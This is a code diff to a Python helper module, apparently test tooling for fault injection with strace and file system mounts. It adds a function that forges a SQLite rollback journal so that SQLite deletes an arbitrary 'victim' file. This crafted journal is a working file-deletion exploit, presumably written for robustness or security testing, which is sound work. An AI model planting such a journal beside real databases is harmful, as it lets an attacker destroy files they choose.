@@ -1,5 +1,7 @@
-"""Break system calls by strace, and mount file systems that end."""
+"""Break system calls by strace, mount file systems that end, forge what SQLite trusts."""
 
+import os
+import struct
 import subprocess
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -41,3 +43,13 @@ def mounted(what: str, at: Path, *options: str) -> Iterator[Path]:
 def remount(at: Path, options: str) -> None:
     """Change a mounted file system's options."""
     subprocess.run(["mount", "-o", f"remount,{options}", str(at)], check=True, capture_output=True)
+
+
+def journal_that_names(victim: Path, database: Path) -> bytes:
+    """Give a journal that SQLite believes was cut off, and that has it delete a file of our choice."""
+    magic, page = bytes.fromhex("d9d505f920a163d7"), 4096
+    header = magic + struct.pack(">5I", 0, 0, database.stat().st_size // page, 512, page)
+    name = os.fsencode(victim)
+    number = 0x40000000 // page + 1
+    end = struct.pack(">I", number) + name + struct.pack(">II", len(name), sum(name)) + magic
+    return header.ljust(512, b"\0") + end
